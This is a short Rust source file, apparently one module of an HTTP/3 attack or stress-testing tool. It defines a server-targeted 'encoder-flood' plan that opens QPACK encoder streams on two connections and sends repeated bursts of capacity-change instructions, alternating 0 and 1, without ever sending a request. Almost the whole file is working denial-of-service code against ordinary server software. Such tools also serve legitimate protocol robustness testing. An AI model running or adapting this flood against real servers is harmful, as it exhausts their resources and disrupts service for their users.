//! QPACK encoder instructions without effect.

use crate::attack::{Plan, Victim};
use crate::http;

use super::{Crowd, crowd};

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "encoder-flood",
    labels: &["A77"],
    summary: "capacity changes on the QPACK encoder stream without any request",
    victim: Victim::Server,
    make: || Box::new(encoder_flood()),
};

fn encoder_flood() -> Crowd {
    Crowd::new(2, |connection, progress, _| {
        let id = http::uni_stream(http::ENCODER);
        // Capacities 0 and 1 alternate. Each empties the dynamic table.
        let bytes = [0x20, 0x21].repeat(500);
        for _ in 0..BURST {
            connection.push_bytes(http::stream(id, progress.encoder, &bytes, false));
            progress.encoder += bytes.len() as u64;
        }
    })
    .with_begin(crowd::preface)
}

/// Packets of one connection in one turn.
const BURST: usize = 8;
